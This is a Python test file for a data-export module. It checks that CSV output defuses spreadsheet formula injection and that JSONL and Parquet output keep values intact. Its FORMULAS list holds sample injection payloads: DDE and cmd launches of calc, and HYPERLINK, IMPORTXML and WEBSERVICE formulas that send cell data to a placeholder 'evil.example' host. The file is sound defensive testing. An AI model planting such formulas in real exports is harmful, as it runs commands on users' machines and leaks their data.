"""CSV that runs nothing in a spreadsheet and loses nothing."""

import csv
import io
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.schema import Column, Schema
from review.export.csv import cell_as_it_was, write_csv
from review.export.jsonl import write_jsonl
from review.export.parquet import write_parquet
from review.export.sheet import Sheet, Written

NOTES = Schema(
    "notes",
    (
        Column("account", "VARCHAR", "who"),
        Column("note", "VARCHAR", "what", nullable=True),
        Column("score", "DOUBLE", "how much", nullable=True),
        Column("at", "BIGINT", "when", nullable=True),
        Column("seen", "BOOLEAN", "whether", nullable=True),
    ),
    key=("account",),
)

FORMULAS = [
    "=1+1",
    "=1+1\r\n",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=IMPORTDATA("http://evil.example")',
    '=IMPORTRANGE("key","A1")',
    '=IMPORTFEED("http://evil.example")',
    '=IMPORTHTML("http://evil.example","table",1)',
    '=IMAGE("http://evil.example/x.png")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=1;2",
    "=",
    "+",
    "-",
    "@",
    "==1",
    "=+1",
    "-=1",
    "-1",
    "-0.5",
    "+49 30 1234",
    "-",
    "--",
    "@alice",
    '="a"',
    "=A1,B1",
    "=\n1",
    "\t=1+1",
    "\t1",
    "\r=1+1",
    "\r1",
    "\n=1+1",
    "\n1",
    "\r\n=1",
    "\x00=1+1",
    "\x001",
    " =1+1",
    "   +1",
    " -1",
    " @x",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003=1",
    "\ufeff=1+1",
    "\u200b=1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    " \uff1d1",
    "'=1+1",
    "''=1+1",
    "'+1",
    "' =1",
    "'\t1",
    "=1'",
    "=a;b\tc",
    "@\u202e",
]

HARMLESS = [
    "alice",
    "a=b",
    "1-1",
    "0049",
    "00123",
    "null",
    "NA",
    "\\N",
    "'tis",
    "'",
    "''",
    " lead",
    "trail ",
    "a,b",
    'say "x"',
    '"',
    "two\nlines",
    "cr\rlf\r\nend",
    "semi;colon",
    "tab\tin",
    "مرحبا",
    "日本",
    "❤️",
    "9223372036854775808",
    "1.23E+18",
]


def test_every_formula_of_the_corpus_is_marked_as_text():
    assert len(FORMULAS) >= 60
    rows = read(written(FORMULAS))

    assert [row["note"][0] for row in rows] == ["'"] * len(FORMULAS)


def test_a_marked_cell_gives_its_text_back():
    assert [cell_as_it_was(row["note"]) for row in read(written(FORMULAS))] == FORMULAS


def test_harmless_text_leaves_as_it_is():
    rows = read(written(HARMLESS))

    assert [row["note"] for row in rows] == HARMLESS
    assert [cell_as_it_was(row["note"]) for row in rows] == HARMLESS


@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=12), max_size=8))
def test_any_text_reads_back_and_none_begins_as_a_formula(notes):
    rows = read(written(notes))

    assert [cell_as_it_was(row["note"]) for row in rows] == notes
    signs = tuple("=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20")
    assert not any(row["note"].lstrip(" \u00a0\u3000").startswith(signs) for row in rows)


@given(st.text(st.sampled_from("'=+-@ \t\r\nx\x00\"")))
def test_no_two_texts_leave_as_the_same_cell(note):
    [row] = read(written([note]))

    assert cell_as_it_was(row["note"]) == note


def test_numbers_are_never_touched():
    assert written(["x"], scores=[-1.5], times=[-3]) == (
        b"account,note,score,at,seen\r\na0,x,-1.5,-3,true\r\n"
    )


def test_a_null_is_an_empty_cell_and_an_empty_text_is_quoted():
    assert written([None, ""], scores=[None, 0.1], times=[None, 0]) == (
        b'account,note,score,at,seen\r\na0,,,,true\r\na1,"",0.1,0,true\r\n'
    )


def test_lines_quotes_and_ends_follow_rfc_4180():
    assert written(['a "b"', "c,d", "e\r\nf"]) == (
        b"account,note,score,at,seen\r\n"
        b'a0,"a ""b""",1,5,true\r\n'
        b'a1,"c,d",1,5,true\r\n'
        b'a2,"e\r\nf",1,5,true\r\n'
    )


def test_a_cell_that_another_separator_would_cut_is_quoted():
    assert b'"a;=1+1"' in written(["a;=1+1"])
    assert b'"a\t=1+1"' in written(["a\t=1+1"])


def test_marked_cells_are_counted():
    out = io.BytesIO()

    assert write_csv(sheet(["=1", "x", "@y"]), out) == Written(
        rows=3, changed={"cells marked as text": 2}
    )


def test_a_byte_order_mark_comes_only_when_asked_for():
    assert not written(["x"]).startswith(b"\xef\xbb\xbf")
    assert written(["x"], bom=True).startswith(b"\xef\xbb\xbfaccount,")


def test_no_rows_give_the_header_alone():
    assert written([]) == b"account,note,score,at,seen\r\n"


@pytest.mark.parametrize("size", [97, 8_192, 8_193])
def test_the_bytes_do_not_depend_on_how_rows_are_batched(size):
    notes = [f"note {n % 97}" for n in range(8_200)]
    batches = pa.Table.from_batches(sheet(notes).batches).to_batches(max_chunksize=size)
    out = io.BytesIO()

    write_csv(Sheet(NOTES, batches), out)

    assert out.getvalue() == written(notes)


@given(
    st.lists(
        st.tuples(
            st.one_of(st.none(), st.text(st.characters(codec="utf-8"), max_size=12)),
            st.one_of(st.none(), st.floats(allow_nan=False, allow_infinity=False)),
            st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1)),
        ),
        max_size=6,
    )
)
def test_json_lines_and_parquet_are_lossless_twins(rows):
    given_sheet = sheet(*([row[place] for row in rows] for place in range(3)))
    expected = pa.Table.from_batches(given_sheet.batches, NOTES.arrow).to_pylist()
    lines, parquet = io.BytesIO(), io.BytesIO()

    write_jsonl(given_sheet, lines)
    write_parquet(given_sheet, parquet)

    assert [json.loads(line) for line in lines.getvalue().decode().split("\n")[:-1]] == expected
    assert pq.read_table(parquet).to_pylist() == expected
    assert pq.read_schema(parquet) == NOTES.arrow


def test_json_lines_are_what_they_were():
    out = io.BytesIO()

    write_jsonl(sheet(['=1 "x"\n\x00é', None], [0.1, -1e300], [5, None]), out)

    assert out.getvalue().decode() == (
        '{"account":"a0","note":"=1 \\"x\\"\\n\\u0000é","score":0.1,"at":5,"seen":true}\n'
        '{"account":"a1","note":null,"score":-1e+300,"at":null,"seen":true}\n'
    )


def test_a_number_that_json_cannot_hold_leaves_as_null_and_is_counted():
    out = io.BytesIO()

    told = write_jsonl(sheet(["x", "y"], [float("nan"), float("inf")], [1, 2]), out)

    assert told.changed == {"numbers left null": 2}
    assert [json.loads(line)["score"] for line in out.getvalue().splitlines()] == [None, None]


def test_writing_holds_a_few_rows_at_a_time_and_not_the_whole():
    held = []
    begin = pa.total_allocated_bytes()

    def many():
        for _ in range(20):
            held.append(pa.total_allocated_bytes() - begin)
            yield from sheet(["some words of a post"] * 20_000).batches

    write_csv(Sheet(NOTES, many()), io.BytesIO())

    assert max(held) < 8_000_000


def sheet(notes, scores=None, times=None):
    rows = len(notes)
    columns = {
        "account": [f"a{n}" for n in range(rows)],
        "note": notes,
        "score": [1.0] * rows if scores is None else scores,
        "at": [5] * rows if times is None else times,
        "seen": [True] * rows,
    }
    return Sheet(NOTES, pa.table(columns, schema=NOTES.arrow).to_batches())


def written(notes, *, scores=None, times=None, bom=False):
    out = io.BytesIO()
    write_csv(sheet(notes, scores, times), out, bom=bom)
    return out.getvalue()


def read(data):
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))
